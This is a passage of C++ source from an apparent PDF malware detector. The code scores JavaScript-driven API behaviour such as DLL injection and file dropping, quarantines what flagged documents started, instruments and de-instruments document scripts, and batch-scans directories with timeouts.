    // "before alert, call original API; when alert, isolate").
    if (is_drop_api(event.api) && in_js && js_doc->alerted) {
      const std::string path = event.api == "NtCreateFile"
                                   ? (event.args.empty() ? "" : event.args[0])
                                   : (event.args.size() > 1 ? event.args[1] : "");
      if (!path.empty() && kernel_.fs().exists(path)) {
        kernel_.fs().quarantine(path);
        confine(js_doc->name, "quarantine", path);
      }
    }
    return sys::ApiOutcome::kAllow;
  }

  // --- DLL injection: always rejected (Table III). ------------------------
  if (is_inject_api(event.api)) {
    const std::string dll = event.args.size() > 1 ? event.args[1] : "";
    if (in_js) {
      js_doc->injected_dlls.push_back(dll);
      record_in_js(*js_doc, Feature::kF13_DllInjection,
                   "CreateRemoteThread(" + dll + ")");
      check_memory(*js_doc);
      evaluate(current_js_key_, *js_doc);
    } else {
      record_out_js(Feature::kF7_OutJsDllInjection,
                    "CreateRemoteThread(" + dll + ")");
    }
    confine(in_js ? js_doc->name : "", "veto-dll-injection", dll);
    // Isolate the DLL file if it exists on disk.
    if (!dll.empty() && kernel_.fs().exists(dll)) {
      kernel_.fs().quarantine(dll);
      confine(in_js ? js_doc->name : "", "quarantine", dll);
    }
    return sys::ApiOutcome::kBlock;
  }

  // --- Process creation (Table III). ---------------------------------------
  if (is_process_api(event.api)) {
    const std::string image = event.args.empty() ? "" : event.args[0];
    const bool whitelisted =
        std::any_of(config_.process_whitelist.begin(),
                    config_.process_whitelist.end(),
                    [&](const std::string& w) {
                      return image.size() >= w.size() &&
                             image.compare(image.size() - w.size(), w.size(), w) == 0;
                    });
    if (!in_js && whitelisted) return sys::ApiOutcome::kAllow;

    if (in_js) {
      record_in_js(*js_doc, Feature::kF12_ProcessCreation, "spawn " + image);
      // Cross-document linking: executing a file some document downloaded
      // in JS context implicates both ends (§III-E).
      if (executable_list_.count(image)) {
        record_in_js(*js_doc, Feature::kF11_MalwareDropping,
                     "executes previously dropped " + image);
        for (auto& [other_key, other] : docs_) {
          if (&other != js_doc &&
              std::find(other.dropped_files.begin(), other.dropped_files.end(),
                        image) != other.dropped_files.end()) {
            record_in_js(other, Feature::kF12_ProcessCreation,
                         "its dropped file " + image + " was executed");
            evaluate(other_key, other);
          }
        }
      }
      check_memory(*js_doc);
    } else {
      record_out_js(Feature::kF6_OutJsProcessCreation, "spawn " + image);
    }

    // Reject the original call; the detector itself launches the target in
    // the sandbox so execution can be observed and undone.
    if (in_js) evaluate(current_js_key_, *js_doc);
    if (!image.empty()) {
      sys::Process& jailed = kernel_.create_process(image, /*sandboxed=*/true);
      confine(in_js ? js_doc->name : "", "sandbox", image);
      if (in_js) {
        js_doc->sandboxed_children.push_back(jailed.pid());
        if (js_doc->alerted) {
          // Already convicted: terminate immediately and isolate the image.
          kernel_.terminate(jailed.pid());
          confine(js_doc->name, "terminate", image);
          if (kernel_.fs().exists(image)) {
            kernel_.fs().quarantine(image);
            confine(js_doc->name, "quarantine", image);
          }
        }
      }
    }
    return sys::ApiOutcome::kBlock;
  }

  // --- Malware dropping: allow the original API, remember the file. -------
  if (is_drop_api(event.api)) {
    const std::string path = event.api == "NtCreateFile"
                                 ? (event.args.empty() ? "" : event.args[0])
                                 : (event.args.size() > 1 ? event.args[1] : "");
    if (in_js) {
      record_in_js(*js_doc, Feature::kF11_MalwareDropping, "drops " + path);
      note_dropped_file(*js_doc, path);
      if (looks_like_executable(path) || event.api != "NtCreateFile") {
        executable_list_.insert(path);
      }
      if (event.api != "NtCreateFile") {
        // URLDownload* also touches the network.
        record_in_js(*js_doc, Feature::kF9_NetworkAccess,
                     "download from " + (event.args.empty() ? "" : event.args[0]));
      }
      check_memory(*js_doc);
      evaluate(current_js_key_, *js_doc);
    }
    return sys::ApiOutcome::kAllow;
  }

  // --- Network access. ------------------------------------------------------
  if (is_network_api(event.api)) {
    if (in_js) {
      record_in_js(*js_doc, Feature::kF9_NetworkAccess,
                   event.api + "(" + (event.args.empty() ? "" : event.args[0]) + ")");
      check_memory(*js_doc);
      evaluate(current_js_key_, *js_doc);
    }
    return sys::ApiOutcome::kAllow;
  }

  // --- Mapped memory search (egg-hunt). -------------------------------------
  if (is_hunt_api(event.api)) {
    if (in_js) {
      record_in_js(*js_doc, Feature::kF10_MappedMemorySearch, event.api);
      check_memory(*js_doc);
      evaluate(current_js_key_, *js_doc);
    }
    return sys::ApiOutcome::kAllow;
  }

  return sys::ApiOutcome::kAllow;
}

// ---------------------------------------------------------------------------
// Scoring
// ---------------------------------------------------------------------------

void RuntimeDetector::record_in_js(DocumentState& doc, Feature f,
                                   const std::string& why) {
  doc.active = true;
  if (doc.runtime_features.insert(f).second) {
    note_evidence(doc, feature_name(f) + ": " + why);
    kernel_.trace().record_for(
        doc.name, trace::FeatureFire{feature_name(f), why, /*in_js=*/true});
  }
}

void RuntimeDetector::record_out_js(Feature f, const std::string& why) {
  // Out-of-JS operations contribute to every active malscore (§III-E).
  for (auto& [key_text, doc] : docs_) {
    if (!doc.active || doc.alerted) continue;
    if (doc.runtime_features.insert(f).second) {
      note_evidence(doc, feature_name(f) + " (out-JS): " + why);
      kernel_.trace().record_for(
          doc.name, trace::FeatureFire{feature_name(f), why, /*in_js=*/false});
    }
    evaluate(key_text, doc);
  }
}

void RuntimeDetector::note_evidence(DocumentState& doc, std::string line) {
  if (doc.evidence.size() < config_.max_evidence_entries) {
    doc.evidence.push_back(std::move(line));
    return;
  }
  // Explicit overflow marker (appended exactly once), then count what a
  // hostile document tried to append beyond the cap.
  if (doc.evidence_overflow++ == 0) {
    doc.evidence.push_back("[evidence overflow: further entries dropped]");
  }
}

void RuntimeDetector::note_dropped_file(DocumentState& doc,
                                        const std::string& path) {
  if (doc.dropped_files.size() < config_.max_dropped_files) {
    doc.dropped_files.push_back(path);
  } else {
    ++doc.dropped_files_overflow;
  }
}

void RuntimeDetector::confine(const std::string& doc_name, const char* action,
                              const std::string& target) {
  if (doc_name.empty()) {
    kernel_.trace().record(trace::Confinement{action, target});
  } else {
    kernel_.trace().record_for(doc_name, trace::Confinement{action, target});
  }
}

void RuntimeDetector::check_memory(DocumentState& doc) {
  sys::Process* proc = kernel_.process(reader_pid_);
  if (!proc) return;
  const std::uint64_t now = proc->memory_bytes();
  if (now >= doc.memory_at_enter &&
      now - doc.memory_at_enter >= config_.memory_threshold) {
    record_in_js(doc, Feature::kF8_MemoryConsumption,
                 "in-JS memory delta " +
                     std::to_string((now - doc.memory_at_enter) >> 20) + " MB");
  }
}

double RuntimeDetector::malscore(const DocumentState& doc) const {
  // Forged SOAP traffic convicts unconditionally (§IV zero tolerance).
  if (doc.fake_message) return config_.threshold + config_.w2;
  // Eq. 1. Documents with no in-JS feature score zero regardless of static
  // features (workflow step 1: everything is ignored until an in-JS
  // operation activates the document).
  if (!doc.active) return 0.0;

  int static_and_outjs = doc.static_features.binary_sum();
  int in_js = 0;
  for (Feature f : doc.runtime_features) {
    if (f == Feature::kF6_OutJsProcessCreation ||
        f == Feature::kF7_OutJsDllInjection) {
      ++static_and_outjs;
    } else {
      ++in_js;
    }
  }
  return config_.w1 * static_and_outjs + config_.w2 * in_js;
}

void RuntimeDetector::evaluate(const std::string& key_text, DocumentState& doc) {
  if (doc.alerted) return;
  if (malscore(doc) >= config_.threshold) raise_alert(key_text, doc);
}

void RuntimeDetector::raise_alert(const std::string& /*key_text*/,
                                  DocumentState& doc) {
  doc.alerted = true;
  alerts_.push_back(doc.name);
  kernel_.trace().record_for(
      doc.name,
      trace::DocVerdict{"malicious", malscore(doc), /*alerted=*/true});
  // Confinement on alert (Table III): quarantine what it dropped and kill
  // what it started.
  for (const std::string& path : doc.dropped_files) {
    if (kernel_.fs().exists(path)) {
      kernel_.fs().quarantine(path);
      confine(doc.name, "quarantine", path);
    }
  }
  for (int pid : doc.sandboxed_children) {
    if (sys::Process* child = kernel_.process(pid)) {
      kernel_.terminate(pid);
      confine(doc.name, "terminate", child->image());
      if (kernel_.fs().exists(child->image())) {
        kernel_.fs().quarantine(child->image());
        confine(doc.name, "quarantine", child->image());
      }
    }
  }
}

Verdict RuntimeDetector::verdict(const InstrumentationKey& key) const {
  Verdict v;
  auto it = docs_.find(key.combined());
  if (it == docs_.end()) return v;
  v.malscore = malscore(it->second);
  v.malicious = it->second.alerted || v.malscore >= config_.threshold;
  v.evidence = it->second.evidence;
  return v;
}

Verdict RuntimeDetector::verdict_by_name(const std::string& name) const {
  for (const auto& [key_text, doc] : docs_) {
    if (doc.name == name) {
      Verdict v;
      v.malscore = malscore(doc);
      v.malicious = doc.alerted || v.malscore >= config_.threshold;
      v.evidence = doc.evidence;
      return v;
    }
  }
  return {};
}

const DocumentState* RuntimeDetector::state(const InstrumentationKey& key) const {
  auto it = docs_.find(key.combined());
  return it == docs_.end() ? nullptr : &it->second;
}

}  // namespace pdfshield::core
