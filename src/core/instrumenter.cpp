#include "core/instrumenter.hpp"

#include <cctype>
#include <cstdlib>
#include <algorithm>
#include <map>

#include "pdf/filters.hpp"
#include "support/encoding.hpp"
#include "support/strings.hpp"

namespace pdfshield::core {

Instrumenter::Instrumenter(support::Rng& rng, std::string detector_id,
                           InstrumenterOptions options)
    : rng_(rng), detector_id_(std::move(detector_id)), options_(std::move(options)) {}

namespace {

/// Escapes a JS source string into a single-quoted literal (used when
/// embedding a wrapper as a method argument).
std::string js_quote(const std::string& s) {
  std::string out = "'";
  for (char c : s) {
    switch (c) {
      case '\'': out += "\\'"; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      default: out.push_back(c);
    }
  }
  out.push_back('\'');
  return out;
}

/// Finds the extent of a string literal starting at `pos` (which must be a
/// quote character). Returns one past the closing quote, or npos.
std::size_t literal_end(const std::string& src, std::size_t pos) {
  const char quote = src[pos];
  for (std::size_t i = pos + 1; i < src.size(); ++i) {
    if (src[i] == '\\') {
      ++i;
      continue;
    }
    if (src[i] == quote) return i + 1;
  }
  return std::string::npos;
}

/// Methods whose literal script argument must be instrumented, with the
/// argument index carrying the script (Table IV + delayed execution).
struct DynamicMethod {
  const char* name;
  int script_arg;  ///< 0-based index; -1 = last argument
};

constexpr DynamicMethod kDynamicMethods[] = {
    {"addScript", 1},   {"setAction", -1}, {"setPageAction", -1},
    {"setTimeOut", 0},  {"setInterval", 0},
};

}  // namespace

std::string Instrumenter::instrument_dynamic_literals(
    const std::string& source, const InstrumentationKey& key) {
  std::string out = source;
  // Iterate until fixpoint-free single pass per method: we scan left to
  // right, replacing literal arguments; replacements are themselves
  // wrappers whose payloads are encrypted, so they are never re-matched.
  for (const DynamicMethod& method : kDynamicMethods) {
    std::size_t search_from = 0;
    while (true) {
      const std::size_t at = out.find(std::string(method.name) + "(", search_from);
      if (at == std::string::npos) break;
      const std::size_t open = at + std::string(method.name).size();
      // Collect top-level argument boundaries inside the parentheses.
      int depth = 0;
      std::vector<std::pair<std::size_t, std::size_t>> args;  // [start, end)
      std::size_t arg_start = open + 1;
      std::size_t close = std::string::npos;
      for (std::size_t i = open; i < out.size(); ++i) {
        const char c = out[i];
        if (c == '\'' || c == '"') {
          const std::size_t end = literal_end(out, i);
          if (end == std::string::npos) break;
          i = end - 1;
          continue;
        }
        if (c == '(') {
          if (depth++ == 0) arg_start = i + 1;
          continue;
        }
        if (c == ')') {
          if (--depth == 0) {
            args.emplace_back(arg_start, i);
            close = i;
            break;
          }
          continue;
        }
        if (c == ',' && depth == 1) {
          args.emplace_back(arg_start, i);
          arg_start = i + 1;
        }
      }
      if (close == std::string::npos) break;  // unbalanced; stop rewriting
      search_from = at + 1;
      if (args.empty()) continue;

      const std::size_t idx =
          method.script_arg < 0
              ? args.size() - 1
              : static_cast<std::size_t>(method.script_arg);
      if (idx >= args.size()) continue;
      auto [s, e] = args[idx];
      // Trim whitespace.
      while (s < e && std::isspace(static_cast<unsigned char>(out[s]))) ++s;
      while (e > s && std::isspace(static_cast<unsigned char>(out[e - 1]))) --e;
      if (s >= e) continue;
      if (out[s] != '\'' && out[s] != '"') continue;  // not a literal
      const std::size_t lit_end = literal_end(out, s);
      if (lit_end == std::string::npos || lit_end != e) continue;

      // Decode the literal (we only handle the escapes js_quote produces
      // plus the common ones; unknown escapes pass through verbatim).
      std::string script;
      for (std::size_t i = s + 1; i + 1 < e; ++i) {
        if (out[i] == '\\' && i + 1 < e - 1) {
          const char n = out[i + 1];
          if (n == 'n') {
            script.push_back('\n');
          } else if (n == 'r') {
            script.push_back('\r');
          } else if (n == 't') {
            script.push_back('\t');
          } else {
            script.push_back(n);
          }
          ++i;
        } else {
          script.push_back(out[i]);
        }
      }
      // Skip literals that already carry one of our wrappers (they embed a
      // key minted under our detector id).
      if (support::contains(script, key.detector_id + "-")) continue;

      const std::string wrapped = generate_monitor_wrapper(
          script, key, EnvelopeRole::kFull, rng_, options_.codegen);
      const std::string literal = js_quote(wrapped);
      out.replace(s, e - s, literal);
      search_from = at + 1;  // re-scan conservatively after mutation
    }
  }
  return out;
}

InstrumentationRecord Instrumenter::instrument(pdf::Document& doc) {
  InstrumentationRecord record;
  record.key = generate_document_key(rng_, detector_id_);

  const JsChainAnalysis analysis = analyze_js_chains(doc);

  // Duplicate-instrumentation guard: a script carrying a key minted by
  // THIS installation (the detector id is a per-install secret) was
  // already instrumented here. Documents instrumented elsewhere — or
  // attacker text that merely mentions our public SOAP endpoint — do not
  // trip the guard and get (re-)instrumented normally; the Detector ID in
  // the key sorts their stale monitoring traffic out at runtime.
  for (const JsSite& site : analysis.sites) {
    if (support::contains(site.source, detector_id_ + "-")) {
      record.already_instrumented = true;
      return record;
    }
  }

  // Group sites by sequence so each sequence gets one envelope.
  std::map<int, std::vector<const JsSite*>> sequences;
  for (const JsSite& site : analysis.sites) {
    if (!site.triggered && !options_.include_untriggered) continue;
    if (site.source.empty()) continue;
    sequences[site.sequence_id].push_back(&site);
  }

  for (auto& [seq_id, sites] : sequences) {
    std::sort(sites.begin(), sites.end(),
              [](const JsSite* a, const JsSite* b) {
                return a->sequence_pos < b->sequence_pos;
              });
    for (std::size_t i = 0; i < sites.size(); ++i) {
      const JsSite& site = *sites[i];
      EnvelopeRole role;
      if (sites.size() == 1) {
        role = EnvelopeRole::kFull;
      } else if (i == 0) {
        role = EnvelopeRole::kEnterOnly;
      } else if (i + 1 == sites.size()) {
        role = EnvelopeRole::kExitOnly;
      } else {
        role = EnvelopeRole::kMiddle;
      }

      const std::string staged_safe =
          instrument_dynamic_literals(site.source, record.key);
      const std::string replacement = generate_monitor_wrapper(
          staged_safe, record.key, role, rng_, options_.codegen);

      InstrumentationRecord::Entry entry;
      entry.object_num = site.object_num;
      entry.in_stream = site.code_in_stream;
      entry.code_object = site.code_object;
      entry.original = site.source;
      record.entries.push_back(std::move(entry));

      replace_script(doc, site, replacement);
    }
  }
  return record;
}

void Instrumenter::replace_script(pdf::Document& doc, const JsSite& site,
                                  const std::string& replacement) {
  pdf::Object* holder = doc.object({site.object_num, 0});
  if (!holder) return;
  pdf::Dict& dict = holder->dict_or_stream_dict();
  pdf::Object* js = dict.find("JS");
  if (!js) return;

  // Monitor wrappers multiply script size; re-deflating the instrumented
  // stream keeps the output document close to the input's size (and is
  // cheap now that deflate uses lazy hash-chain matching).
  auto set_stream_script = [](pdf::Stream& s, const std::string& script) {
    pdf::EncodedStream enc =
        pdf::encode_stream(support::to_bytes(script), {"FlateDecode"});
    s.data = std::move(enc.data);
    s.dict.set("Filter", std::move(enc.filter));
    s.dict.erase("DecodeParms");
    s.dict.set("Length", pdf::Object(static_cast<std::int64_t>(s.data.size())));
  };

  if (js->is_ref()) {
    pdf::Object* target = doc.object(js->as_ref());
    if (!target) return;
    if (target->is_stream()) {
      set_stream_script(target->as_stream(), replacement);
    } else if (target->is_string()) {
      *target = pdf::Object::string(replacement);
    }
    return;
  }
  if (js->is_stream()) {
    set_stream_script(js->as_stream(), replacement);
    return;
  }
  *js = pdf::Object::string(replacement);
}

std::string serialize_record(const InstrumentationRecord& record) {
  std::string out = "pdfshield-record v1\n";
  out += "key " + record.key.combined() + "\n";
  for (const auto& e : record.entries) {
    out += "entry " + std::to_string(e.object_num) + " " +
           std::to_string(e.code_object) + " " +
           (e.in_stream ? std::string("stream") : std::string("string")) + " " +
           support::base64_encode(support::to_bytes(e.original)) + "\n";
  }
  return out;
}

std::optional<InstrumentationRecord> parse_record(const std::string& text) {
  InstrumentationRecord record;
  bool have_header = false, have_key = false;
  for (const std::string& line : support::split(text, '\n')) {
    if (line.empty()) continue;
    const auto fields = support::split(line, ' ');
    if (!have_header) {
      if (line != "pdfshield-record v1") return std::nullopt;
      have_header = true;
      continue;
    }
    if (fields[0] == "key" && fields.size() == 2) {
      auto key = InstrumentationKey::parse(fields[1]);
      if (!key) return std::nullopt;
      record.key = *key;
      have_key = true;
      continue;
    }
    if (fields[0] == "entry" && fields.size() == 5) {
      InstrumentationRecord::Entry entry;
      entry.object_num = std::atoi(fields[1].c_str());
      entry.code_object = std::atoi(fields[2].c_str());
      entry.in_stream = fields[3] == "stream";
      try {
        const support::Bytes original = support::base64_decode(fields[4]);
        entry.original.assign(original.begin(), original.end());
      } catch (const support::Error&) {
        return std::nullopt;
      }
      record.entries.push_back(std::move(entry));
      continue;
    }
    return std::nullopt;  // unknown directive
  }
  if (!have_header || !have_key) return std::nullopt;
  return record;
}

void Instrumenter::deinstrument(pdf::Document& doc,
                                const InstrumentationRecord& record) {
  for (const auto& entry : record.entries) {
    pdf::Object* holder = doc.object({entry.object_num, 0});
    if (!holder) continue;
    pdf::Dict& dict = holder->dict_or_stream_dict();
    pdf::Object* js = dict.find("JS");
    if (!js) continue;

    pdf::Object* target = js->is_ref() ? doc.object(js->as_ref()) : js;
    if (!target) continue;
    if (target->is_stream()) {
      pdf::Stream& s = target->as_stream();
      s.data = support::to_bytes(entry.original);
      // replace_script re-deflated the stream; the restored script is
      // stored plain, so the filter entries must go with it.
      s.dict.erase("Filter");
      s.dict.erase("DecodeParms");
      s.dict.set("Length", pdf::Object(static_cast<std::int64_t>(s.data.size())));
    } else {
      *target = pdf::Object::string(entry.original);
    }
  }
}

}  // namespace pdfshield::core
