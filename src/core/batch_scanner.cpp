#include "core/batch_scanner.hpp"

#include <algorithm>
#include <chrono>
#include <fstream>
#include <future>
#include <memory>
#include <mutex>
#include <thread>

#include "core/detector.hpp"
#include "core/keys.hpp"
#include "reader/reader_sim.hpp"
#include "support/checksum.hpp"
#include "support/strings.hpp"
#include "support/work_stealing_pool.hpp"
#include "sys/kernel.hpp"
#include "trace/recorder.hpp"

namespace pdfshield::core {

/// Watchdog threads whose document overran its budget. They keep running
/// after the batch moves on; reap() joins the ones that wind down within
/// the grace window (so their effects are properly synchronized) and
/// detaches only the truly stuck rest.
class AbandonedRunners {
 public:
  void add(std::thread runner, std::future<void> done) {
    std::lock_guard<std::mutex> lock(mutex_);
    runners_.push_back({std::move(runner), std::move(done)});
  }

  void reap(double grace_s) {
    std::vector<Entry> runners;
    {
      std::lock_guard<std::mutex> lock(mutex_);
      runners.swap(runners_);
    }
    const auto deadline = std::chrono::steady_clock::now() +
                          std::chrono::duration<double>(grace_s);
    for (Entry& entry : runners) {
      if (entry.done.wait_until(deadline) == std::future_status::ready) {
        entry.runner.join();
      } else {
        entry.runner.detach();
      }
    }
  }

 private:
  struct Entry {
    std::thread runner;
    std::future<void> done;
  };
  std::mutex mutex_;
  std::vector<Entry> runners_;
};

namespace {

/// Detonates one instrumented document: a throwaway Kernel hosting a
/// RuntimeDetector (under the front-end's detector id, so the minted keys
/// authenticate) and a simulated reader that opens the output. All runtime
/// events land on the kernel's recorder — the same one the front-end spans
/// were recorded on. Deterministic per (detector id, input bytes).
void detonate_one(sys::Kernel& kernel, const FrontEnd& frontend,
                  const FrontEndResult& result, BatchDocResult& doc) {
  RuntimeDetector detector(kernel, DetectorConfig{}, frontend.detector_id());
  detector.register_document(result.record.key, doc.name, result.features);
  for (const auto& emb : result.embedded) {
    detector.register_document(emb.record.key, emb.name, emb.features);
  }
  reader::ReaderSim reader(kernel);
  detector.attach(reader);
  reader.open_document(result.output, doc.name);

  const Verdict verdict = detector.verdict(result.record.key);
  doc.detonated = true;
  doc.malicious = verdict.malicious;
  doc.malscore = verdict.malscore;
  // Final verdict snapshot: alerts emit their own doc-verdict event at
  // alert time, but benign documents need a closing record too so every
  // traced document ends with a verdict.
  kernel.trace().record_for(
      doc.name, trace::DocVerdict{verdict.malicious ? "malicious" : "benign",
                                  verdict.malscore, verdict.malicious});
}

}  // namespace

BatchDocResult run_document(const FrontEnd& frontend, std::string_view name,
                            support::BytesView data,
                            const BatchRunContext& ctx,
                            const support::ArenaHandle& arena) {
  BatchDocResult doc;
  doc.name = std::string(name);
  doc.input_bytes = data.size();

  // Per-document recorder (detonation brings its own kernel, whose
  // recorder doubles as the document's). Ring capacity 0: nothing is
  // retained in memory, events only fan out to the shared sink + counters.
  std::unique_ptr<sys::Kernel> kernel;
  std::unique_ptr<trace::Recorder> standalone;
  trace::Recorder* recorder = nullptr;
  if (ctx.detonate) {
    kernel = std::make_unique<sys::Kernel>(/*trace_ring_capacity=*/0);
    recorder = &kernel->trace();
  } else if (ctx.trace_sink) {
    standalone = std::make_unique<trace::Recorder>(ctx.session, 0);
    recorder = standalone.get();
  }
  if (recorder) {
    recorder->set_session(ctx.session);
    if (ctx.trace_sink) recorder->add_sink(ctx.trace_sink);
    if (ctx.counters) recorder->add_sink(ctx.counters);
    recorder->set_doc(doc.name);
  }

  try {
    FrontEndResult result = frontend.process(data, recorder, arena);
    doc.timings = result.timings;
    if (!result.ok) {
      doc.error = result.error.empty() ? "front-end failed" : result.error;
    } else {
      doc.ok = true;
      doc.output_bytes = result.output.size();
      doc.output_crc32 = support::crc32(result.output);
      doc.has_javascript = result.has_javascript;
      doc.scripts_instrumented = result.record.entries.size();
      doc.embedded_documents = result.embedded.size();
      doc.features = result.features;
      doc.suspicious = result.features.binary_sum() > 0;
      doc.document_key = result.record.key.document_key;
      // Prefilter: a document whose merged jsstatic report *proves* every
      // script sink- and indicator-free (and that embeds no sub-documents
      // the proof would not cover) cannot trip the runtime detector, so
      // detonation is pure cost. Anything short of a proof detonates.
      const bool proven_clean = ctx.static_prefilter && result.js_analyzed &&
                                result.js_report.proven_clean() &&
                                result.embedded.empty();
      if (ctx.detonate) {
        if (proven_clean) {
          doc.static_skipped = true;
        } else {
          detonate_one(*kernel, frontend, result, doc);
        }
      }
      if (ctx.keep_output) doc.output = std::move(result.output);
    }
  } catch (const std::exception& e) {
    doc.ok = false;
    doc.error = e.what();
  }
  if (recorder) {
    const trace::CounterSnapshot counters = recorder->counters();
    doc.trace_events = counters.total;
    doc.trace_dropped = counters.dropped;
  }
  return doc;
}

namespace {

support::Bytes read_file(const std::filesystem::path& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) throw support::Error("cannot open " + path.string());
  return support::Bytes(std::istreambuf_iterator<char>(in),
                        std::istreambuf_iterator<char>());
}

}  // namespace

BatchScanner::BatchScanner(BatchOptions options) : options_(std::move(options)) {
  if (options_.jobs == 0) options_.jobs = 1;
  // The prefilter's clean-proof comes from the jsstatic pass, so screening
  // implies analyzing (the flag alone must not silently screen nothing).
  if (options_.static_prefilter) options_.frontend.analyze_js = true;
  if (options_.detector_id.empty()) {
    // Fixed seed: plain batch runs are reproducible across invocations and
    // machines. Deployments wanting a private id pass their own.
    support::Rng rng(0x7000df5e1dbafc00ULL);
    options_.detector_id = generate_detector_id(rng);
  }
}

BatchDocResult BatchScanner::scan_one(const FrontEnd& frontend,
                                      const BatchItem& item,
                                      const BatchRunContext& ctx,
                                      AbandonedRunners& abandoned,
                                      const support::ArenaHandle& arena) const {
  if (options_.timeout_s <= 0) {
    BatchDocResult doc = run_document(frontend, item.name, item.data, ctx, arena);
    // The FrontEndResult (and with it the Document, the only other arena
    // owner) died inside run_one; the sole-owner check makes the rewind
    // provably safe even if a future refactor leaks a handle. Retained
    // chunks make the next document on this worker allocation-free up to
    // the high-water mark.
    if (arena && arena.use_count() == 1) arena->reset();
    return doc;
  }

  // Watchdog path: the document runs on its own thread so an overrun can
  // be abandoned. The task owns copies of everything it touches (item,
  // options, its own FrontEnd) because once abandoned it may outlive the
  // batch; the future's ready-state is the only synchronization point.
  struct TaskState {
    BatchDocResult doc;
  };
  auto state = std::make_shared<TaskState>();
  auto promise = std::make_shared<std::promise<void>>();
  std::future<void> done = promise->get_future();
  std::thread runner(
      [state, promise, item, ctx,  // ctx by value: the sink must outlive us
       detector_id = options_.detector_id, fe_options = options_.frontend] {
        FrontEnd frontend_copy(detector_id, fe_options);
        state->doc = run_document(frontend_copy, item.name, item.data, ctx);
        promise->set_value();
      });
  const auto budget = std::chrono::duration<double>(options_.timeout_s);
  if (done.wait_for(budget) == std::future_status::ready) {
    runner.join();
    return std::move(state->doc);
  }
  abandoned.add(std::move(runner), std::move(done));
  BatchDocResult doc;
  doc.name = item.name;
  doc.input_bytes = item.data.size();
  doc.timed_out = true;
  doc.error = "timed out after " +
              support::format_double(options_.timeout_s, 3) + "s";
  return doc;
}

BatchReport BatchScanner::scan(const std::vector<BatchItem>& items) {
  BatchReport report;
  report.detector_id = options_.detector_id;
  report.jobs = options_.jobs;
  report.docs.resize(items.size());

  BatchRunContext ctx;
  ctx.keep_output = options_.keep_outputs;
  ctx.detonate = options_.detonate;
  ctx.static_prefilter = options_.static_prefilter;
  ctx.session = options_.detector_id;
  if (!options_.trace_path.empty()) {
    ctx.trace_sink = trace::JsonlSink::open(options_.trace_path);
    ctx.counters = std::make_shared<trace::CounterSink>();
  }
  report.traced = ctx.trace_sink != nullptr;
  report.detonated = ctx.detonate;
  report.static_prefilter = options_.static_prefilter;

  const auto t0 = std::chrono::steady_clock::now();
  AbandonedRunners abandoned;
  {
    support::WorkStealingPool pool(options_.jobs, options_.queue_capacity);
    // One self-seeding FrontEnd per worker: immutable, so per-document
    // output depends only on (detector id, input bytes) — never on which
    // worker ran it or in what order.
    std::vector<FrontEnd> frontends;
    frontends.reserve(pool.worker_count());
    // One reusable parse arena per worker, reset between documents: after
    // the first few documents warm the chunks, steady-state scanning does
    // no per-document heap allocation on the parse path.
    std::vector<support::ArenaHandle> arenas;
    arenas.reserve(pool.worker_count());
    for (std::size_t i = 0; i < pool.worker_count(); ++i) {
      frontends.emplace_back(options_.detector_id, options_.frontend);
      arenas.push_back(std::make_shared<support::Arena>());
    }
    for (std::size_t i = 0; i < items.size(); ++i) {
      // Each task writes only its own slot; wait_idle() + pool teardown
      // order those writes before the aggregation below.
      pool.submit([this, &frontends, &arenas, &items, &report, &ctx,
                   &abandoned, i] {
        const auto worker = static_cast<std::size_t>(
            support::WorkStealingPool::current_worker());
        report.docs[i] = scan_one(frontends[worker], items[i], ctx, abandoned,
                                  arenas[worker]);
      });
    }
    pool.wait_idle();
  }
  abandoned.reap(options_.abandon_grace_s);
  report.wall_s =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - t0)
          .count();

  for (const BatchDocResult& doc : report.docs) {
    if (doc.ok) ++report.ok_count;
    else if (doc.timed_out) ++report.timeout_count;
    else ++report.error_count;
    if (doc.suspicious) ++report.suspicious_count;
    if (doc.malicious) ++report.malicious_count;
    if (doc.static_skipped) ++report.static_skipped_count;
    report.trace_events += doc.trace_events;
    report.trace_dropped += doc.trace_dropped;
    report.cpu_timings.parse_decompress_s += doc.timings.parse_decompress_s;
    report.cpu_timings.feature_extraction_s += doc.timings.feature_extraction_s;
    report.cpu_timings.instrumentation_s += doc.timings.instrumentation_s;
  }
  if (report.wall_s > 0) {
    report.docs_per_s = static_cast<double>(report.docs.size()) / report.wall_s;
  }
  if (ctx.counters) {
    report.trace_counters.total = ctx.counters->total();
    report.trace_counters.dropped = report.trace_dropped;
    for (std::size_t k = 0; k < trace::kKindCount; ++k) {
      report.trace_counters.by_kind[k] =
          ctx.counters->count(static_cast<trace::Kind>(k));
    }
  }
  return report;
}

BatchReport BatchScanner::scan_directory(const std::filesystem::path& dir) {
  std::vector<std::filesystem::path> paths;
  for (const auto& entry :
       std::filesystem::recursive_directory_iterator(dir)) {
    if (entry.is_regular_file()) paths.push_back(entry.path());
  }
  std::sort(paths.begin(), paths.end());

  std::vector<BatchItem> items;
  items.reserve(paths.size());
  std::vector<BatchDocResult> unreadable;
  for (const auto& path : paths) {
    BatchItem item;
    item.name = path.lexically_relative(dir).generic_string();
    try {
      item.data = read_file(path);
    } catch (const std::exception& e) {
      BatchDocResult doc;
      doc.name = item.name;
      doc.error = e.what();
      unreadable.push_back(std::move(doc));
      continue;
    }
    items.push_back(std::move(item));
  }

  BatchReport report = scan(items);
  for (BatchDocResult& doc : unreadable) {
    ++report.error_count;
    report.docs.push_back(std::move(doc));
  }
  return report;
}

support::Json BatchReport::to_json() const {
  support::Json j = support::Json::object();
  j["detector_id"] = detector_id;
  j["jobs"] = static_cast<std::uint64_t>(jobs);
  j["documents"] = static_cast<std::uint64_t>(docs.size());
  j["ok"] = static_cast<std::uint64_t>(ok_count);
  j["errors"] = static_cast<std::uint64_t>(error_count);
  j["timeouts"] = static_cast<std::uint64_t>(timeout_count);
  j["suspicious"] = static_cast<std::uint64_t>(suspicious_count);
  // Trace/detonation fields appear only when those modes ran, so the
  // default report stays byte-identical to previous releases (the CLI
  // smoke test byte-compares reports across thread counts).
  if (detonated) {
    j["malicious"] = static_cast<std::uint64_t>(malicious_count);
  }
  if (static_prefilter) {
    j["static_skipped"] = static_cast<std::uint64_t>(static_skipped_count);
  }
  if (traced) {
    j["trace_events"] = trace_events;
    j["trace_events_dropped"] = trace_dropped;
  }
  j["wall_s"] = wall_s;
  j["docs_per_s"] = docs_per_s;

  support::Json phases = support::Json::object();
  phases["parse_decompress_s"] = cpu_timings.parse_decompress_s;
